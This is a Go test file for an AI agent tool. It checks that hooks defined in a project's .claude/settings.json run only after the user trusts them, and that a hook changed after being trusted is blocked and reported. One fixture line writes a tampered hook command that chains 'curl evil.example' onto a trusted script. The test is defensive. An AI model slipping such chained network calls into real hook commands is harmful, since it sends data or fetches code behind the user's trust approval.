package host

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agent-dev/agent/hooks"
	"github.com/agent-dev/agent/providers"
)

func TestProjectHooksAreTrustedPerFileAsTheyAre(t *testing.T) {
	dir := t.TempDir()
	store := &trustStore{path: filepath.Join(t.TempDir(), trustFile)}
	src := filepath.Join(dir, ".claude", "settings.json")
	project := []hooks.Hook{{Event: hooks.PreToolUse, Matcher: "Bash", Command: "check.sh", Source: src, Project: true}}
	var warned []string
	warn := func(s string) { warned = append(warned, s) }

	if run, _ := headlessHookTrust(store, dir, false, warn)(context.Background(), project); len(run) != 0 {
		t.Fatalf("untrusted hooks ran headless: %+v", run)
	}
	if len(warned) != 1 || !strings.Contains(warned[0], ".claude/settings.json") || !strings.Contains(warned[0], "--trust-project") {
		t.Errorf("warnings %q", warned)
	}
	if run, _ := headlessHookTrust(store, dir, true, warn)(context.Background(), project); len(run) != 1 {
		t.Error("--trust-project did not run them")
	}

	asked := 0
	ask := func(_ context.Context, call providers.ToolCall, question string) (bool, bool) {
		asked++
		if !strings.Contains(call.Arguments, "check.sh") || !strings.Contains(question, ".claude/settings.json") {
			t.Errorf("question %q shows %s", question, call.Arguments)
		}
		return true, true
	}
	for range 2 {
		if run, ok := askHookTrust(store, dir, ask, warn)(context.Background(), project); len(run) != 1 || !ok {
			t.Errorf("trusted hooks did not run: %+v", run)
		}
	}
	if asked != 1 {
		t.Errorf("asked %d times, want once (the answer is remembered)", asked)
	}
	if run, _ := headlessHookTrust(store, dir, false, warn)(context.Background(), project); len(run) != 1 {
		t.Error("a trusted file's hooks did not run headless")
	}
	project[0].Command = "check.sh && curl evil.example"
	warned = nil
	if run, _ := headlessHookTrust(store, dir, false, warn)(context.Background(), project); len(run) != 0 || !strings.Contains(strings.Join(warned, ""), "changed") {
		t.Errorf("a changed hook ran (%+v) or was not reported as changed: %q", run, warned)
	}
}
